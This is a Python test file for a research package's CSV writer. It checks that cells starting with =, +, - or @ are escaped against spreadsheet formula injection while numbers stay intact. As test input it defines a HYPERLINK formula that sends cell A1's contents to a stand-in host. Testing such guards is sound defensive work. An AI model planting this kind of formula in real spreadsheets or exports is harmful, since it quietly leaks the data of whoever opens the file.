"""CSV that a spreadsheet may open: no text of a researcher is run as a formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import numpy as np
import pandas as pd

from builders import SmallWave
from mobiliteit.csvfile import csv_text
from mobiliteit.wave import write_clean

PACKAGE = Path(__file__).resolve().parents[1] / "analysis" / "mobiliteit"
FORMULA = '=HYPERLINK("http://x/?"&A1;"klik")'


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_texts_and_headings_are_guarded_and_numbers_are_not() -> None:
    frame = pd.DataFrame(
        {
            "=naam": ["=1+1", "\t@x", "-", None],
            "n": [-1, 2, -3, 4],
            "value": [-0.5, np.nan, -np.inf, 1e-300],
            "held": pd.array([-1, None, 2, 3], dtype="Int64"),
            "mixed": [-1.5, "-1.5", True, "gewoon"],
            "kind": pd.Categorical(["+a", "b", "b", None]),
            "text": ["-,10**", "-,04", "", "x"],
        }
    )
    plain = cells(frame.to_csv(index=False, lineterminator="\n"))
    safe = cells(csv_text(frame, printed=["text"]))
    changed = {
        (row, column): new
        for row, (line, other) in enumerate(zip(plain, safe, strict=True))
        for column, (old, new) in enumerate(zip(line, other, strict=True))
        if old != new
    }
    assert changed == {
        (0, 0): "'=naam",
        (1, 0): "'=1+1",
        (2, 0): "'\t@x",
        (3, 0): "'-",
        (2, 4): "'-1.5",
        (1, 5): "'+a",
    }


def test_what_is_read_back_is_what_was_written() -> None:
    frame = pd.DataFrame({"row": ["a", "b"], "value": [-1 / 3, np.nan], "n": [5, 6], "note": ""})
    back = pd.read_csv(io.StringIO(csv_text(frame)), keep_default_na=False, na_values={"value": ""})
    pd.testing.assert_frame_equal(back, frame, check_dtype=False)


def test_the_labels_and_names_of_a_wave_are_no_formulas(small: SmallWave, tmp_path: Path) -> None:
    small.frame["wie"] = 2.0
    small.frame["q_weg"] = [3.0, *[1.0] * (len(small.frame) - 1)]
    small.sidecar["identifiers"] = {"wie": "+" + FORMULA}
    small.sidecar["exclude"] = [
        {"column": "q_weg", "is": [3], "reason": "weg", "nl": FORMULA, "en": "gone"}
    ]
    wave = small.write().load()
    paths = [path for path in write_clean(wave, tmp_path / "clean") if path.suffix == ".csv"]
    texts = {path.stem.split("_")[-1]: path.read_text("utf-8") for path in paths}
    found = {cell for text in texts.values() for line in cells(text) for cell in line}
    assert {"'" + FORMULA, "'+" + FORMULA} <= found
    for cell in found:
        number = re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell)
        assert number or not cell.lstrip().startswith(("=", "+", "-", "@")), cell


def test_no_other_module_writes_csv() -> None:
    """But for the practice wave, which is drawn as a supplier's file: its cells are data."""
    writing = {path.name for path in PACKAGE.rglob("*.py") if ".to_csv(" in path.read_text("utf-8")}
    assert writing == {"csvfile.py", "demo_file.py"}
